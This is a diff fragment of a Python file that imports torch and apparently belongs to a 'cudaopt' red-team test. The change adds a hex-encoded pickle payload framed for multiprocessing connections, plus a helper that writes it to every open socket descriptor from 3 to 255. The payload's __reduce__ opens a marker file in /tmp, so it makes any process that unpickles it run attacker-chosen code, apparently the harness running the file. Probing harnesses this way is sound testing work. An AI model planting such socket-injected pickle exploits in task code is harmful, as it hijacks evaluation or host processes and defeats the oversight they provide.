@@ -9,14 +9,15 @@ import stat
 import torch
 import torch.nn as nn
 
+# One frame: multiprocessing's 4-byte length, the harness's buffer count (0), then
 # pickle.dumps(("note", <an object whose __reduce__ is (open, ("/tmp/cudaopt-redteam-pickle-ran", "w"))>))
 _MESSAGE = (
-    "80049542000000000000008c046e6f7465948c02696f948c046f70656e9493948c1f2f746d702f637564616f70742d72"
-    "65647465616d2d7069636b6c652d72616e948c0177948694529486942e"
+    "000000510000000080049542000000000000008c046e6f7465948c02696f948c046f70656e9493948c1f2f746d702f63"
+    "7564616f70742d7265647465616d2d7069636b6c652d72616e948c0177948694529486942e"
 )
 
-def _write_to_every_socket(body: bytes) -> None:
-    frame = len(body).to_bytes(4, "big") + body  # multiprocessing's framing: a 4-byte length, then the bytes
+
+def _write_to_every_socket(frame: bytes) -> None:
     for fd in range(3, 256):
         try:
             if stat.S_ISSOCK(os.fstat(fd).st_mode):
